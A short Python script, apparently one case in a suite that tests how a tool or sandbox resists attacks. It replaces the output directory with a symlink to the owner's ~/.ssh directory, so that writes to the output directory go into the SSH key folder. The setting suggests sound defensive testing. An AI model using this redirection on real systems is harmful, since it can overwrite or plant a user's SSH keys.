"""A trap in the place of the output directory itself."""

import os

from attempt import TARGETS, attack, main


@attack
def trap_output_directory() -> None:
    """The owner's directory of keys in the place of the output directory."""
    output = os.environ["OUTPUT_DIR"]
    os.rename(output, output + "-before")
    os.symlink(TARGETS["home"] + "/.ssh", output)


if __name__ == "__main__":
    main()
